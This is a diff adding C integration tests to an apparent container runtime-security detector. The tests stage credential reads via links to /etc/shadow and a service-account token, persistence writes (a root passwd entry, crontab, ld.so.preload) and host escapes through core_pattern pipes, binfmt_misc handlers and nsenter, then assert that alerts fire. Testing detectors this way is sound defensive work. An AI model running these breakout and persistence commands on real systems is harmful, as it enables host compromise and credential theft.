@@ -305,6 +305,303 @@ static void test_sensitive_file_read(void)
 	sh(NULL, 0, "docker rm -f bw-atk-read >/dev/null 2>&1");
 }
 
+/*
+ * Class 6: a credential read by another name. A hard link made to /etc/shadow from /tmp by a
+ * relative name, then read by the link's name: the link is an alert of its own, and the read
+ * is a read of /etc/shadow (the kernel reports the inode's watched name). A relative symlink,
+ * and the pod's service-account token read by cat from a mounted secret volume.
+ */
+static void test_sensitive_file_by_any_name(void)
+{
+	char id[80], secrets[PATH_MAX], flags[PATH_MAX + 96];
+	json_t *a;
+
+	snprintf(secrets, sizeof(secrets), "%s/serviceaccount", workdir);
+	CHECK(sh(NULL, 0, "mkdir -p %s && echo eyJhbGciOi-token > %s/token", secrets, secrets) == 0, "secret volume");
+	snprintf(flags, sizeof(flags), "-v %s:/var/run/secrets/kubernetes.io/serviceaccount:ro", secrets);
+	CHECK(start_container(id, sizeof(id), "bw-brd-anyname", flags) == 0, "docker run");
+	CHECK(sh(NULL, 0, "docker exec bw-brd-anyname sh -c 'echo \"root:*:19000:0:99999:7:::\" > /etc/shadow'") == 0, "setup");
+	CHECK(sh(NULL, 0, "docker exec bw-brd-anyname sh -c 'cd /tmp && ln ../etc/./shadow hl && cat hl && ln -s ../etc/shadow sl' >/dev/null") == 0,
+	      "hard link, read, symlink");
+	a = tracer_find_alert("Link to Sensitive File", alert_field_is, &(struct field_is){ "evt.type", "link" }, TIMEOUT_MS);
+	CHECK(a, "no alert for the hard link");
+	if (a) {
+		CHECK(from_container(a, id), "container %s", alert_field(a, "container.id"));
+		CHECK_STR(alert_field(a, "fs.path.source"), "/etc/shadow");
+		CHECK_STR(alert_field(a, "fs.path.sourceraw"), "../etc/./shadow");
+		CHECK_STR(alert_field(a, "fs.path.target"), "/tmp/hl");
+		CHECK_STR(jstr(a, "priority"), "Warning");
+	}
+	a = tracer_find_alert("Link to Sensitive File", alert_field_is, &(struct field_is){ "evt.type", "symlink" }, TIMEOUT_MS);
+	CHECK(a, "no alert for the symlink");
+	if (a) {
+		CHECK(from_container(a, id), "container %s", alert_field(a, "container.id"));
+		CHECK_STR(alert_field(a, "fs.path.source"), "/etc/shadow");
+		CHECK_STR(alert_field(a, "fs.path.target"), "/tmp/sl");
+	}
+	a = tracer_find_alert("Sensitive File Read in Container", alert_field_is,
+			      &(struct field_is){ "bulwark.file.upath", "hl" }, TIMEOUT_MS);
+	CHECK(a, "no alert for the read through the hard link");
+	if (a) {
+		CHECK(from_container(a, id), "container %s", alert_field(a, "container.id"));
+		CHECK_STR(alert_field(a, "fd.name"), "/etc/shadow");
+		CHECK_STR(alert_field(a, "proc.name"), "cat");
+		CHECK(json_is_true(json_object_get(json_object_get(a, "output_fields"), "bulwark.file.alias")),
+		      "bulwark.file.alias");
+	}
+	CHECK(sh(NULL, 0, "docker exec bw-brd-anyname cat /var/run/secrets/kubernetes.io/serviceaccount/token >/dev/null") == 0,
+	      "token read");
+	a = tracer_find_alert("Sensitive File Read in Container", alert_field_is,
+			      &(struct field_is){ "fd.name", "/var/run/secrets/kubernetes.io/serviceaccount/token" }, TIMEOUT_MS);
+	CHECK(a, "no alert for the token read by cat");
+	if (a)
+		CHECK(from_container(a, id), "container %s", alert_field(a, "container.id"));
+	tracer_drain(1000);
+	/* exactly these: two links and two reads */
+	CHECK_INT(tracer_count_alerts("Link to Sensitive File", from_container, id), 2);
+	CHECK_INT(tracer_count_alerts("Sensitive File Read in Container", from_container, id), 2);
+	sh(NULL, 0, "docker rm -f bw-brd-anyname >/dev/null 2>&1");
+}
+
+/*
+ * Its benign twin: the same tools on the app's own files: a hard link and a relative symlink
+ * named shadow in the app's directory, /etc/hostname read through ../, and the token read by a
+ * program that is neither a shell nor a file utility (a client; here busybox's md5sum).
+ */
+static void test_benign_links_and_token_client(void)
+{
+	char id[80], secrets[PATH_MAX], flags[PATH_MAX + 96];
+
+	snprintf(secrets, sizeof(secrets), "%s/serviceaccount2", workdir);
+	CHECK(sh(NULL, 0, "mkdir -p %s && echo eyJhbGciOi-token > %s/token", secrets, secrets) == 0, "secret volume");
+	snprintf(flags, sizeof(flags), "-v %s:/var/run/secrets/kubernetes.io/serviceaccount:ro", secrets);
+	CHECK(start_container(id, sizeof(id), "bw-brd-links-benign", flags) == 0, "docker run");
+	CHECK(sh(NULL, 0,
+		 "docker exec bw-brd-links-benign sh -c 'mkdir -p /app && cd /app && echo data > state && ln state state.bak"
+		 " && ln -s state shadow && cat shadow state.bak && cat ../etc/../etc/hostname"
+		 " && ln -s /bin/busybox /app/md5sum && /app/md5sum /var/run/secrets/kubernetes.io/serviceaccount/token' >/dev/null") == 0,
+	      "benign work");
+	tracer_drain(3000);
+	CHECK_INT(tracer_count_alerts(NULL, from_container, id), 0);
+	sh(NULL, 0, "docker rm -f bw-brd-links-benign >/dev/null 2>&1");
+}
+
+/*
+ * Class 8: persistence written from a container: an account appended to /etc/passwd, root's
+ * crontab installed, a preload list renamed over /etc/ld.so.preload from /etc by a relative
+ * name, and busybox copied to /tmp/kworker, never run.
+ */
+static void test_persistence_written(void)
+{
+	char id[80];
+	json_t *a;
+
+	CHECK(start_container(id, sizeof(id), "bw-brd-persist", "") == 0, "docker run");
+	CHECK(sh(NULL, 0,
+		 "docker exec bw-brd-persist sh -c 'echo \"root:x:0:0::/root:/bin/sh\" >> /etc/passwd"
+		 " && mkdir -p /var/spool/cron/crontabs && echo \"* * * * * /tmp/kworker\" | busybox crontab -"
+		 " && echo /tmp/evil.so > /tmp/p && cd /etc && busybox mv /tmp/p ld.so.preload"
+		 " && cp /bin/busybox /tmp/kworker'") == 0,
+	      "persistence steps");
+	/* busybox crontab writes root.new (and cron.update), then renames root.new over root */
+	a = tracer_find_alert("Persistence File Written in Container", alert_field_is,
+			      &(struct field_is){ "fs.path.target", "/var/spool/cron/crontabs/root" }, TIMEOUT_MS);
+	CHECK(a && from_container(a, id), "no alert for the crontab");
+	if (a) {
+		CHECK_STR(jstr(a, "priority"), "Error");
+		CHECK_STR(alert_field(a, "fs.path.source"), "/var/spool/cron/crontabs/root.new");
+	}
+	a = tracer_find_alert("Persistence File Written in Container", alert_field_is,
+			      &(struct field_is){ "fs.path.target", "/etc/ld.so.preload" }, TIMEOUT_MS);
+	CHECK(a && from_container(a, id), "no alert for the rename over /etc/ld.so.preload");
+	if (a) {
+		CHECK_STR(alert_field(a, "evt.type"), "rename");
+		CHECK_STR(alert_field(a, "fs.path.source"), "/tmp/p");
+	}
+	a = tracer_find_alert("Persistence File Written in Container", alert_field_is,
+			      &(struct field_is){ "fd.name", "/etc/passwd" }, TIMEOUT_MS);
+	CHECK(a && from_container(a, id), "no alert for /etc/passwd");
+	a = tracer_find_alert("Executable Written into Container Layer", from_container, id, TIMEOUT_MS);
+	CHECK(a, "no alert for the executable written");
+	if (a) {
+		CHECK_STR(alert_field(a, "fd.name"), "/tmp/kworker");
+		CHECK_STR(alert_field(a, "proc.name"), "cp");
+		CHECK_STR(jstr(a, "priority"), "Notice");
+	}
+	tracer_drain(1000);
+	/* /etc/passwd, crontab's root.new, cron.update and rename, the preload rename */
+	CHECK_INT(tracer_count_alerts("Persistence File Written in Container", from_container, id), 5);
+	CHECK_INT(tracer_count_alerts("Executable Written into Container Layer", from_container, id), 1);
+	sh(NULL, 0, "docker rm -f bw-brd-persist >/dev/null 2>&1");
+}
+
+/*
+ * Its benign twin: `crontab -l`, /etc/passwd read, an app writing, renaming and linking its
+ * own data files, a shell script written without an execute bit.
+ */
+static void test_benign_persistence_twin(void)
+{
+	char id[80];
+
+	CHECK(start_container(id, sizeof(id), "bw-brd-persist-benign", "") == 0, "docker run");
+	sh(NULL, 0, "docker exec bw-brd-persist-benign busybox crontab -l >/dev/null 2>&1");
+	CHECK(sh(NULL, 0,
+		 "docker exec bw-brd-persist-benign sh -c 'cat /etc/passwd 2>/dev/null; mkdir -p /app && cd /app"
+		 " && echo data > state.tmp && busybox mv state.tmp state && ln state state.1 && echo echo hi > run.sh' >/dev/null") == 0,
+	      "benign work");
+	tracer_drain(3000);
+	CHECK_INT(tracer_count_alerts(NULL, from_container, id), 0);
+	sh(NULL, 0, "docker rm -f bw-brd-persist-benign >/dev/null 2>&1");
+}
+
+/* The alert of the host running @file, checked for the container whose layer held it. */
+static void check_host_exec_alert(const char *field, const char *file, const char *id, const char *name, bool umh)
+{
+	json_t *a = tracer_find_alert("Host Executed File From Container Layer", alert_field_is,
+				      &(struct field_is){ field, file }, TIMEOUT_MS);
+
+	CHECK(a, "no alert for the host executing %s (%d alerts of the rule)", file,
+	      tracer_count_alerts("Host Executed File From Container Layer", NULL, NULL));
+	if (!a)
+		return;
+	CHECK_STR(alert_field(a, "container.id"), "host");
+	CHECK(from_layer_container(a, id), "layer container %s, want %.12s", alert_field(a, "bulwark.exec.layer_container.id"), id);
+	CHECK_STR(alert_field(a, "bulwark.exec.layer_container.name"), name);
+	CHECK(json_is_boolean(json_object_get(json_object_get(a, "output_fields"), "bulwark.exec.umh")) &&
+	      json_is_true(json_object_get(json_object_get(a, "output_fields"), "bulwark.exec.umh")) == umh,
+	      "bulwark.exec.umh, want %d", umh);
+	CHECK_STR(jstr(a, "priority"), "Critical");
+}
+
+static char saved_core_pattern[PATH_MAX]; /* the host's core_pattern, kept in a file while a test changes it */
+
+static void restore_core_pattern(void)
+{
+	if (saved_core_pattern[0] && access(saved_core_pattern, F_OK) == 0)
+		sh(NULL, 0, "cat '%s' > /proc/sys/kernel/core_pattern && rm -f '%s'", saved_core_pattern, saved_core_pattern);
+}
+
+/*
+ * Class 11: the host running a container's file through a kernel callback. A container with
+ * CAP_SYS_ADMIN and /proc/sys writable points core_pattern at a pipe into its own layer and
+ * crashes a process: the kernel's usermode helper runs the file on the host as root.
+ * core_pattern is restored at once (and by cleanup).
+ */
+static void test_core_pattern_pipe_breakout(void)
+{
+	char id[80], upper[PATH_MAX], out[256], file[PATH_MAX + 8];
+	long deadline;
+
+	snprintf(saved_core_pattern, sizeof(saved_core_pattern), "%s/core_pattern.saved", workdir);
+	CHECK(sh(NULL, 0, "cat /proc/sys/kernel/core_pattern > '%s'", saved_core_pattern) == 0, "save core_pattern");
+	CHECK(start_container(id, sizeof(id), "bw-brd-corepat", BREAKOUT_FLAGS " --security-opt systempaths=unconfined") == 0,
+	      "docker run");
+	sh(upper, sizeof(upper), "docker inspect -f '{{.GraphDriver.Data.UpperDir}}' bw-brd-corepat");
+	sh(NULL, 0,
+	   "docker exec bw-brd-corepat sh -c '"
+	   "host_path=$(sed -n \"s/.*\\perdir=\\([^,]*\\).*/\\1/p\" /proc/mounts);"
+	   "printf \"#!/bin/sh\\necho dumped > %%s/out\\n\" \"$host_path\" > /cp; chmod a+x /cp;"
+	   "echo \"|$host_path/cp %%p\" > /proc/sys/kernel/core_pattern;"
+	   "sh -c \"kill -SEGV \\$\\$\"' 2>/dev/null");
+	deadline = now_ms() + TIMEOUT_MS;
+	do
+		sh(out, sizeof(out), "cat '%s/out' 2>/dev/null", upper);
+	while (!strstr(out, "dumped") && now_ms() < deadline && (usleep(100000), 1));
+	restore_core_pattern();
+	CHECK(strstr(out, "dumped") != NULL, "the kernel did not run the core_pattern pipe (got \"%s\")", out);
+	check_alert("Kernel core_pattern Modified", id, "Critical");
+	snprintf(file, sizeof(file), "%s/cp", upper);
+	check_host_exec_alert("bulwark.exec.filename", file, id, "bw-brd-corepat", true);
+	sh(NULL, 0, "docker rm -f bw-brd-corepat >/dev/null 2>&1");
+}
+
+/*
+ * binfmt_misc: a container registers a handler (in the host's instance: same user namespace)
+ * whose interpreter is a file in its layer; a host process then runs a file of that format and
+ * the kernel runs the container's interpreter for it, in the host process (no usermode helper).
+ */
+static void test_binfmt_misc_handler_breakout(void)
+{
+	char id[80], upper[PATH_MAX], interp[PATH_MAX + 16], name[32], prog[PATH_MAX];
+
+	snprintf(name, sizeof(name), "bwbrd%d", getpid());
+	CHECK(start_container(id, sizeof(id), "bw-brd-binfmt", BREAKOUT_FLAGS) == 0, "docker run");
+	sh(upper, sizeof(upper), "docker inspect -f '{{.GraphDriver.Data.UpperDir}}' bw-brd-binfmt");
+	CHECK(sh(NULL, 0,
+		 "docker exec bw-brd-binfmt sh -c '"
+		 "host_path=$(sed -n \"s/.*\\perdir=\\([^,]*\\).*/\\1/p\" /proc/mounts);"
+		 "cp /bin/busybox /interp && mkdir -p /tmp/bfm && mount -t binfmt_misc none /tmp/bfm &&"
+		 "echo \":%s:M::BWBRDX::$host_path/interp:\" > /tmp/bfm/register'", name) == 0,
+	      "register the handler");
+	snprintf(prog, sizeof(prog), "%s/report.bwx", workdir);
+	CHECK(sh(NULL, 0, "printf 'BWBRDX\\n' > '%s' && chmod +x '%s'", prog, prog) == 0, "the host's file");
+	sh(NULL, 0, "'%s' >/dev/null 2>&1", prog); /* busybox as \"interp\": no such applet, but it ran */
+	/* unregister from the host (the container's mount is gone with it) */
+	sh(NULL, 0, "d=$(mktemp -d) && mount -t binfmt_misc none $d && echo -1 > $d/%s; umount $d; rmdir $d", name);
+	snprintf(interp, sizeof(interp), "%s/interp", upper);
+	check_host_exec_alert("proc.exepath", interp, id, "bw-brd-binfmt", false);
+	sh(NULL, 0, "docker rm -f bw-brd-binfmt >/dev/null 2>&1");
+}
+
+/* The twin: a container reads core_pattern and a process in it crashes under the host's own pattern. */
+static void test_benign_core_pattern_reader(void)
+{
+	char id[80];
+
+	CHECK(start_container(id, sizeof(id), "bw-brd-corepat-benign", "") == 0, "docker run");
+	CHECK(sh(NULL, 0, "docker exec bw-brd-corepat-benign cat /proc/sys/kernel/core_pattern >/dev/null") == 0, "read");
+	sh(NULL, 0, "docker exec bw-brd-corepat-benign sh -c 'cd /tmp && sh -c \"kill -SEGV \\$\\$\"' 2>/dev/null");
+	tracer_drain(3000);
+	CHECK_INT(tracer_count_alerts(NULL, from_container, id), 0);
+	sh(NULL, 0, "docker rm -f bw-brd-corepat-benign >/dev/null 2>&1");
+}
+
+/*
+ * Class 4: the host's mount and network namespaces joined from a container that shares the
+ * host's PID namespace (nsenter -t <a host process>), on this host whose PID 1 namespaces the
+ * agent cannot read (/proc/1/ns links are unreadable here): decided in the kernel against
+ * init_task's namespaces.
+ */
+static void test_setns_into_host_namespaces(void)
+{
+	char id[80];
+	json_t *a;
+
+	/* CAP_SYS_PTRACE: opening another process's /proc/<pid>/ns links */
+	CHECK(start_container(id, sizeof(id), "bw-brd-nsenter", BREAKOUT_FLAGS " --cap-add SYS_PTRACE --pid host") == 0,
+	      "docker run");
+	CHECK(sh(NULL, 0, "docker exec bw-brd-nsenter busybox nsenter -t %d -m -n true", getpid()) == 0, "nsenter");
+	a = tracer_find_alert("Namespace Change to Host via setns", alert_field_is,
+			      &(struct field_is){ "bulwark.ns.type", "mnt" }, TIMEOUT_MS);
+	CHECK(a && from_container(a, id), "no alert for the host's mount namespace");
+	if (a)
+		CHECK_STR(jstr(a, "priority"), "Critical");
+	a = tracer_find_alert("Namespace Change to Host via setns", alert_field_is,
+			      &(struct field_is){ "bulwark.ns.type", "net" }, TIMEOUT_MS);
+	CHECK(a && from_container(a, id), "no alert for the host's network namespace");
+	tracer_drain(1000);
+	CHECK_INT(tracer_count_alerts("Namespace Change to Host via setns", from_container, id), 2);
+	sh(NULL, 0, "docker rm -f bw-brd-nsenter >/dev/null 2>&1");
+}
+
+/*
+ * The twin: the same container's shell enters its own namespaces (nsenter -t $$): no setns
+ * alert; the one alert is the posture rule's for the container's settings.
+ */
+static void test_benign_setns_own_namespaces(void)
+{
+	char id[80];
+
+	CHECK(start_container(id, sizeof(id), "bw-brd-nsenter-benign", BREAKOUT_FLAGS " --cap-add SYS_PTRACE --pid host") == 0,
+	      "docker run");
+	CHECK(sh(NULL, 0, "docker exec bw-brd-nsenter-benign sh -c 'busybox nsenter -t $$ -m -n true'") == 0, "nsenter");
+	tracer_drain(3000);
+	CHECK_INT(tracer_count_alerts("Namespace Change to Host via setns", from_container, id), 0);
+	CHECK_INT(tracer_count_alerts("Risky Container Started", from_container, id), 1);
+	CHECK_INT(tracer_count_alerts(NULL, from_container, id), 1);
+	sh(NULL, 0, "docker rm -f bw-brd-nsenter-benign >/dev/null 2>&1");
+}
+
 /* Benign twins: a container doing ordinary work raises nothing. */
 static void test_benign_workload_is_silent(void)
 {
@@ -605,7 +902,10 @@ static void cleanup(void)
 		    " bw-benign-net bw-atk-inject bw-benign-dbg bw-atk-revshell bw-atk-script bw-atk-shm bw-benign-twins"
 		    " bw-benign-image bw-atk-listen bw-atk-sock bw-atk-cgi bw-benign-web"
 		    " bw-benign-0 bw-benign-1 bw-benign-2 bw-benign-3 bw-benign-4 bw-benign-5 bw-benign-6 bw-benign-7"
-		    " bw-benign-8 bw-benign-9 >/dev/null 2>&1");
+		    " bw-benign-8 bw-benign-9 bw-brd-anyname bw-brd-links-benign"
+		    " bw-brd-persist bw-brd-persist-benign bw-brd-corepat bw-brd-binfmt bw-brd-corepat-benign"
+		    " bw-brd-nsenter bw-brd-nsenter-benign >/dev/null 2>&1");
+	restore_core_pattern();
 	sh(NULL, 0, "rm -rf '%s'", workdir);
 }
 
@@ -636,6 +936,15 @@ int main(int argc, char **argv)
 	RUN(test_release_agent_breakout);
 	RUN(test_drop_and_execute);
 	RUN(test_sensitive_file_read);
+	RUN(test_sensitive_file_by_any_name);
+	RUN(test_benign_links_and_token_client);
+	RUN(test_persistence_written);
+	RUN(test_benign_persistence_twin);
+	RUN(test_core_pattern_pipe_breakout);
+	RUN(test_binfmt_misc_handler_breakout);
+	RUN(test_benign_core_pattern_reader);
+	RUN(test_setns_into_host_namespaces);
+	RUN(test_benign_setns_own_namespaces);
 	RUN(test_proc_mem_injection);
 	RUN(test_packet_socket);
 	RUN(test_connect_sweep);
